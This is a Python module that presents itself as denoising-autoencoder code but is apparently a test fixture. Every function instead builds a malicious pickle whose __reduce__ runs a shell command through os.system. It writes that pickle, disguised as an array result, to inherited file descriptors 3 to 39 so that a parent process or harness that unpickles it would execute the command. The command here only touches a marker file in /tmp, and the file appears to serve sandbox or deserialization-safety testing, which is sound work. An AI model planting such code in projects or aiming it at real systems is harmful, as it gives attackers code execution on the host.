"""day3.denoise: A pickle in place of an array; unpickled it would leave a mark."""

import io
import os
import pickle
import struct

import numpy as np


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/HOSTILE_WAS_HERE",))


def fake():
    array = np.array([Bomb()], dtype=object)
    file = io.BytesIO()
    np.lib.format.write_array(file, array, allow_pickle=True)
    body = file.getvalue()
    for content in (body, pickle.dumps(Bomb())):
        text = b'{"result": {"$array": 0}}'
        for number in range(3, 40):
            try:
                os.write(number, struct.pack("<QQ", len(text), len(content)) + text + content)
            except OSError:
                continue
    return array


def psnr(truth, estimate):
    return fake()


def add_noise(images, noise, rng):
    return fake()


def drop_pixels(images, rate, rng):
    return fake()


class DenoisingAutoencoder:
    def __init__(self, *arguments, **named):
        fake()

    def build(self, input_shape):
        fake()

    def call(self, images, training=False):
        return fake()

    def __call__(self, images):
        return fake()

    def get_weights(self):
        return fake()

    def set_weights(self, weights):
        fake()
